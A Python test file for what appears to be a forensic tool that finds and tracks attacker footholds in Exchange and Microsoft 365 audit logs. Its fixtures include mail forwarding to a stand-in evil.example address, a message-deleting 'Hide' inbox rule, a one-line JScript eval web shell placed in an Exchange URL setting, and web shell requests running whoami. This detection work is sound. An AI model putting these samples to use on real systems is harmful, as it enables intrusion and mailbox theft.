"""What was left behind is told with what was set to what, and with the record that took it away again."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from tests.scope.staged import iis_log, iis_place, security_log, stage, ual_json

from dwell import api
from dwell.model.claims import CheckStatus, Foothold, FootholdState, Question


def _record(at: str, operation: str, target: str, **parameters: str) -> dict[str, object]:
    return {
        "CreationTime": at, "Id": f"{at}/{operation}", "RecordType": 1, "Operation": operation, "Workload": "Exchange",
        "UserId": "admin@gov.example", "ObjectId": target,
        "Parameters": [{"Name": name, "Value": value} for name, value in parameters.items()],
    }  # fmt: skip


def _footholds(root: Path, files: dict[str, str]) -> list[Foothold]:
    staged = stage(root, files)
    api.hunt(staged.case.root, workers=1)
    return list(api.answers(staged.case.root, workers=1).summary.foothold)


def test_values_are_told_and_what_undid_them(tmp_path: Path) -> None:
    records = [
        _record("2021-03-01T08:00:00", "Set-Mailbox", "anna", ForwardingSmtpAddress="smtp:x@evil.example"),
        _record("2021-03-02T08:00:00", "Set-Mailbox", "otto", ForwardingSmtpAddress="smtp:y@evil.example"),
        _record("2021-03-05T08:00:00", "Set-Mailbox", "anna", ForwardingSmtpAddress=""),
        _record("2021-03-06T08:00:00", "Set-Mailbox", "eva", ForwardingSmtpAddress=""),
    ]
    anna, otto = _footholds(tmp_path, {"m365/audit.jsonl": ual_json(records)})
    assert (anna.host, anna.kind) == ("Microsoft 365", "forwarding or inbox rule")
    assert anna.what == "Set-Mailbox on anna by admin@gov.example: ForwardingSmtpAddress = smtp:x@evil.example"
    assert anna.state is FootholdState.REMOVED
    assert anna.state_why.startswith("taken away at 2021-03-05")
    assert [ref.record_no for ref in anna.grounds] == [1, 3]
    assert (otto.state, [ref.record_no for ref in otto.grounds]) == (FootholdState.UNKNOWN, [2])


def test_what_is_cleared_and_never_was_set_is_told_and_was_not_left_behind(tmp_path: Path) -> None:
    record = _record("2021-03-06T08:00:00", "Set-Mailbox", "eva", ForwardingSmtpAddress="")
    assert not _footholds(tmp_path, {"m365/audit.jsonl": ual_json([record])})
    summary = api.answers(tmp_path / "case", workers=1).summary
    (told,) = [one for one in summary.claims if "Set-Mailbox on eva" in one.text]
    assert "takes away a forwarding or inbox rule that no record held sets" in told.text
    assert not [one for one in summary.eviction if "eva" in str(one)]


def test_equal_acts_are_told_once_and_those_not_looked_up_are_counted(tmp_path: Path) -> None:
    many = [
        _record(f"2021-03-01T08:{minute:02}:00", "Set-Mailbox", "anna", ForwardingSmtpAddress="smtp:x@evil.example")
        for minute in range(25)
    ]
    told = {one.what: len(one.grounds) for one in _footholds(tmp_path, {"m365/audit.jsonl": ual_json(many)})}
    assert told == {
        "Set-Mailbox on anna by admin@gov.example: ForwardingSmtpAddress = smtp:x@evil.example": 10,
        'Operation=Set-Mailbox; Parameters=-ForwardingSmtpAddress "smtp:x@evil.example" (5 further records)': 10,
    }


def test_a_script_in_a_cmdlet_is_told_whole(tmp_path: Path) -> None:
    address = 'http://f/<script language="JScript" runat="server">eval(request)</script>'
    text = f'-ExternalUrl "{address}" -Identity "OAB"'.replace("<", "&lt;").replace('"', "&quot;")
    cmdlet = {"number": 1, "event": 1, "at": "2021-03-03 02:00:00", "provider": "MSExchange CmdletLogs"}
    body = f"<EventData><Data>Set-OabVirtualDirectory</Data><Data>{text}</Data><Data>gov/admin</Data></EventData>"
    log = security_log([cmdlet | {"user_data": body}], channel="MSExchange Management")
    (told,) = _footholds(tmp_path, {"EX01/management.xml": log})
    assert told.what == f"Set-OabVirtualDirectory on OAB by gov/admin: ExternalUrl = {address}"


ADMIN_AUDIT = (
    '<SearchResults><Event Caller="gov/admin" Cmdlet="Set-Mailbox" ObjectModified="gov/Users/anna" '
    'RunDate="2021-03-03T02:00:0{1}+00:00" Succeeded="{0}" Error="None" OriginatingServer="EX01 (15.01.2176.002)">'
    '<CmdletParameters><Parameter Name="Identity" Value="anna" /><Parameter Name="ForwardingSmtpAddress" '
    'Value="smtp:x@evil.example" /></CmdletParameters></Event></SearchResults>'
)


def _forwarding_event(number: int, *, kind: int = 1) -> dict[str, object]:
    text = "-Identity &quot;anna&quot; -ForwardingSmtpAddress &quot;smtp:x@evil.example&quot;"
    body = f"<EventData><Data>Set-Mailbox</Data><Data>{text}</Data><Data>GOV\\admin</Data></EventData>"
    at = f"2021-03-03 0{number + 1}:00:00"
    return {"number": number, "event": kind, "at": at, "provider": "MSExchange CmdletLogs", "user_data": body}


def test_one_act_in_two_logs_is_left_behind_once_and_one_that_only_a_late_log_has_as_well(tmp_path: Path) -> None:
    log = security_log([_forwarding_event(1)], channel="MSExchange Management")
    both = {"EX01/management.xml": log, "audit/a.xml": ADMIN_AUDIT.format("true", 5)}
    (told,) = _footholds(tmp_path / "both", both)
    assert (told.host, told.what) == (
        "EX01",
        "Set-Mailbox on anna by GOV\\admin: ForwardingSmtpAddress = smtp:x@evil.example",
    )
    (alone,) = _footholds(tmp_path / "alone", {"audit/a.xml": ADMIN_AUDIT.format("true", 5)})
    assert "ForwardingSmtpAddress = smtp:x@evil.example" in alone.what
    assert {one.table for one in alone.grounds} == {"admin_audit"}


def test_what_failed_left_nothing_behind(tmp_path: Path) -> None:
    log = security_log([_forwarding_event(1, kind=6)], channel="MSExchange Management")
    assert _footholds(tmp_path, {"EX01/management.xml": log, "audit/a.xml": ADMIN_AUDIT.format("false", 5)}) == []


def test_a_rule_that_was_removed_is_told_with_who_removed_it(tmp_path: Path) -> None:
    target = "F.PROD/Microsoft Exchange Hosted Organizations/gov.example/anna\\Hide"
    records = [
        _record("2021-03-01T08:00:00", "New-InboxRule", target, Name="Hide", DeleteMessage="True"),
        _record("2021-03-09T08:00:00", "Remove-InboxRule", target),
        _record("2021-03-10T08:00:00", "New-InboxRule", "otto\\Hide", Name="Hide", DeleteMessage="True"),
    ]
    anna, otto = _footholds(tmp_path, {"m365/audit.jsonl": ual_json(records)})
    assert anna.what.startswith("New-InboxRule on anna\\Hide by admin@gov.example: Name = Hide")
    assert anna.state is FootholdState.REMOVED
    assert (
        anna.state_why == "taken away at 2021-03-09 08:00:00 UTC: Remove-InboxRule on anna\\Hide by admin@gov.example"
    )
    assert [ref.record_no for ref in anna.grounds] == [1, 2]
    assert otto.state is FootholdState.UNKNOWN


def test_what_the_admin_audit_log_says_was_cleared_is_told_as_removed(tmp_path: Path) -> None:
    text = '-Identity "anna" -ForwardingSmtpAddress "smtp:x@evil.example"'.replace('"', "&quot;")
    cmdlet = {"number": 1, "event": 1, "at": "2021-03-03 02:00:00", "provider": "MSExchange CmdletLogs"}
    body = f"<EventData><Data>Set-Mailbox</Data><Data>{text}</Data><Data>gov/admin</Data></EventData>"
    log = security_log([cmdlet | {"user_data": body}], channel="MSExchange Management")
    cleared = (
        "<?xml version='1.0' encoding='utf-8'?>\r\n<SearchResults>"
        '<Event Caller="gov.example/Users/adm" Cmdlet="Set-Mailbox" ObjectModified="gov.example/Users/anna" '
        'RunDate="2021-03-06T09:00:00+01:00" Succeeded="true" Error="None" OriginatingServer="EX01 (15.01.2176.002)">'
        '<CmdletParameters><Parameter Name="Identity" Value="anna" /><Parameter Name="ForwardingSmtpAddress" Value="" />'
        "</CmdletParameters></Event></SearchResults>"
    )
    (told,) = _footholds(tmp_path, {"EX01/management.xml": log, "SearchResult.xml": cleared})
    assert told.state is FootholdState.REMOVED
    assert told.state_why.startswith("taken away at 2021-03-06 08:00:00 UTC: Set-Mailbox")
    assert [ref.table for ref in told.grounds] == ["evtx", "admin_audit"]


def test_a_right_that_is_denied_is_none_that_was_given(tmp_path: Path) -> None:
    given = {"Identity": "anna", "User": "spy", "AccessRights": "FullAccess"}
    records = [
        _record("2021-03-01T08:00:00", "Add-MailboxPermission", "anna", **given, Deny="True"),
        _record("2021-03-02T08:00:00", "Add-MailboxPermission", "otto", **given | {"Identity": "otto"}),
    ]
    (found,) = _footholds(tmp_path, {"m365/audit.jsonl": ual_json(records)})
    assert "on otto" in found.what


def test_a_record_that_was_exported_twice_is_not_told_twice(tmp_path: Path) -> None:
    there = _record("2021-03-01T08:00:00", "Set-Mailbox", "anna", ForwardingSmtpAddress="smtp:x@evil.example")
    gone = _record("2021-03-05T08:00:00", "Set-Mailbox", "anna", ForwardingSmtpAddress="")
    (told,) = _footholds(tmp_path, {"m365/audit.jsonl": ual_json([there, gone, there, gone])})
    assert told.state is FootholdState.REMOVED


def test_a_folder_is_told_with_who_may_what(tmp_path: Path) -> None:
    folder = {"Path": "\\Inbox", "MemberUpn": "Everyone", "MemberRights": "ReadAny"}
    record = _record("2021-03-01T08:00:00", "AddFolderPermissions", "")
    record |= {"MailboxOwnerUPN": "anna@gov.example", "Item": {"ParentFolder": folder}}
    closed = record | {"CreationTime": "2021-03-02T08:00:00", "Id": "2", "Operation": "ModifyFolderPermissions"}
    closed |= {"Item": {"ParentFolder": folder | {"MemberRights": "None"}}}
    (told,) = _footholds(tmp_path, {"m365/audit.jsonl": ual_json([record, closed])})
    assert told.what == (
        "AddFolderPermissions on anna@gov.example by admin@gov.example: Path = \\Inbox; MemberUpn = Everyone; "
        "MemberRights = ReadAny"
    )


def test_what_checks_of_files_met_is_told_and_laid_to_nobody(tmp_path: Path) -> None:
    folder = "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth"
    rows = [
        f"{folder}\\{name},,10,2019-02-12T20:00:00.4Z,2019-02-12T20:00:00.4Z" for name in ("logon.aspx", "odd.aspx")
    ]
    text = "\r\n".join(["Path,SHA256,Size,CreationTimeUtc,LastWriteTimeUtc", *rows, ""])
    staged = stage(tmp_path, {"EX01/files.csv": text})
    api.hunt(staged.case.root, workers=1)
    found = api.answers(staged.case.root, workers=1).summary
    assert found.foothold == ()
    (told,) = [one for one in found.claims if one.text.startswith("Script or library that stands out")]
    assert (
        told.text == "Script or library that stands out from those beside it: 1 record of servers without a name; "
        "dwell hunt lists them."
    )
    assert [(one.table, one.record_no) for one in told.grounds] == [("inventory", 3)]
    dark = [one.text for one in found.claims if " of files and settings " in one.text]
    assert any("1 check of files and settings blind: no configuration of IIS is held" in one for one in dark)


def test_ordinary_administration_is_told_and_is_not_called_left_behind(tmp_path: Path) -> None:
    log = security_log(
        [
            {
                "number": 1,
                "event": 4720,
                "at": "2021-03-03 02:00:00",
                "SubjectUserName": "EX01$",
                "TargetUserName": "x",
            },
            {
                "number": 2,
                "event": 4732,
                "at": "2021-03-03 09:00:00",
                "SubjectUserName": "a",
                "TargetSid": "S-1-5-32-544",
            },
        ]
    )
    staged = stage(tmp_path, {"EX01/security.xml": log})
    api.hunt(staged.case.root, workers=1)
    found = api.answers(staged.case.root, workers=1).summary
    assert [(one.kind, one.host) for one in found.foothold] == [("role, account, task or service", "EX01")]
    told = [claim.text for claim in found.claims if claim.text.startswith("Member added to a group of administrators")]
    assert len(told) == 1


SHELL = "/aspnet_client/system_web/discover.aspx"
SCRIPTS = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\x.js"
START = "C:\\inetpub\\wwwroot\\iisstart.htm"
THERE = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\discover.aspx"
BELOW = "C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\4_0\\x.js"
MOVED = "C:\\inetpub\\wwwroot\\help\\discover.aspx"
BACKED_UP = "D:\\backup\\system_web\\discover.aspx"
OTHERS = "C:\\Program Files\\Other\\system_web\\x.js"


def _list(*paths: str) -> str:
    rows = [f"{one},,10,2019-02-12T20:00:00Z,2019-02-12T20:00:00Z" for one in paths]
    return "\r\n".join(["Path,SHA256,Size,CreationTimeUtc,LastWriteTimeUtc", *rows, ""])


def _shell(root: Path, lists: dict[str, str]) -> tuple[FootholdState, CheckStatus]:
    """Say what is made of a shell that was used on the 3rd, and of the check of whether it is gone."""
    used = [
        {"at": f"2021-03-0{day} 02:00:00", "stem": SHELL, "query": "cmd=whoami", "agent": "python"} for day in (1, 2, 3)
    ]
    rest = [{"at": f"2021-03-{day:02} 09:00:00"} for day in range(1, 29)]
    log = iis_log(sorted([*used, *rest], key=lambda one: str(one["at"])))
    staged = stage(root, {iis_place("EX01", "210301"): log, **lists})
    api.hunt(staged.case.root, workers=1)
    summary = api.answers(staged.case.root, workers=1).summary
    (told,) = [one for one in summary.foothold if one.kind == "web shell"]
    (check,) = [one for one in summary.eviction if one.check.startswith("web shell")]
    return told.state, check.status


@pytest.mark.parametrize(
    ("lists", "state", "status"),
    [
        ({"EX01/2021-02-01/files.csv": _list(SCRIPTS)}, FootholdState.UNKNOWN, CheckStatus.UNKNOWN),
        (
            {"EX01/2021-02-01/files.csv": _list(SCRIPTS), "EX01/2021-03-20/files.csv": _list("C:\\Windows\\x.exe")},
            FootholdState.UNKNOWN,
            CheckStatus.UNKNOWN,
        ),
        ({"EX01/2021-03-20/files.csv": _list(OTHERS)}, FootholdState.UNKNOWN, CheckStatus.UNKNOWN),
        ({"EX01/2021-03-20/files.csv": _list(SCRIPTS, START)}, FootholdState.REMOVED, CheckStatus.PASS),
        ({"EX01/2021-03-20/files.csv": _list(SCRIPTS)}, FootholdState.UNKNOWN, CheckStatus.UNKNOWN),
        ({"EX01/2021-03-20/files.csv": _list(BELOW)}, FootholdState.UNKNOWN, CheckStatus.UNKNOWN),
        ({"EX01/2021-03-20/files.csv": _list(f"D:\\backup\\{SCRIPTS[3:]}")}, FootholdState.UNKNOWN, CheckStatus.UNKNOWN),
        ({"EX01/2021-03-20/files.csv": _list(SCRIPTS, MOVED)}, FootholdState.UNKNOWN, CheckStatus.UNKNOWN),
        ({"EX01/2021-03-20/files.csv": _list(SCRIPTS, THERE)}, FootholdState.PRESENT, CheckStatus.FAIL),
        (
            {"EX01/2021-03-10/files.csv": _list(THERE), "EX01/2021-03-20/files.csv": _list(SCRIPTS, START)},
            FootholdState.REMOVED,
            CheckStatus.PASS,
        ),
        (
            {"EX01/2021-03-10/files.csv": _list(SCRIPTS), "EX01/2021-03-20/files.csv": _list(THERE)},
            FootholdState.PRESENT,
            CheckStatus.FAIL,
        ),
        (
            {"EX01/2021-03-10/files.csv": _list(BACKED_UP), "EX01/2021-03-20/files.csv": _list(f"{BACKED_UP}.txt")},
            FootholdState.PRESENT,
            CheckStatus.FAIL,
        ),
    ],
    ids=[
        "a list from before it", "and one from after it that leaves the folder out", "a folder of one name", "its folder",
        "its folder, and files of one sort only",
        "a folder below its own", "a backup of its folder", "moved elsewhere", "still there", "there, and gone later",
        "gone, and back later", "a copy of it, and the copy's folder later",
    ],
)  # fmt: skip
def test_a_shell_is_gone_only_by_a_list_from_after_it_that_holds_its_folder(
    tmp_path: Path, lists: dict[str, str], state: FootholdState, status: CheckStatus
) -> None:
    assert _shell(tmp_path, lists) == (state, status)


def _verdict(root: Path, files: dict[str, str]) -> str:
    log = iis_log([{"at": f"2021-03-{day:02} 09:00:00"} for day in range(1, 29)])
    staged = stage(root, {iis_place("EX01", "210301"): log, **files})
    api.hunt(staged.case.root, workers=1)
    summary = api.answers(staged.case.root, workers=1).summary
    return next(one.verdict for one in summary.answers if one.question is Question.FOOTHOLD)


def test_nothing_left_behind_is_said_of_each_kind_with_its_own_figure(tmp_path: Path) -> None:
    """IIS shows the use of a web shell, and no rule, right or role: its figure was that of all."""
    bare = _verdict(tmp_path / "bare", {})
    assert re.search(r"web shells in use 100 % of \d+ server-hours, 2021-03-01 to \S+ \(IIS\)", bare)
    assert "rules, rights and roles none (no MSExchange Management log)" in bare
    assert "files none (no list of them)" in bare
    cmdlets = [{"number": 1, "event": 1, "at": "2021-03-03 09:00:00", "provider": "MSExchange CmdletLogs"}]
    log = {"EX01/management.xml": security_log(cmdlets, channel="MSExchange Management")}
    more = _verdict(tmp_path / "more", {"EX01/2021-03-20/files.csv": _list(SCRIPTS), **log})
    assert "files 1 of 1 mail server" in more
    assert "rules, rights and roles 0.1 % (MSExchange Management)" in more
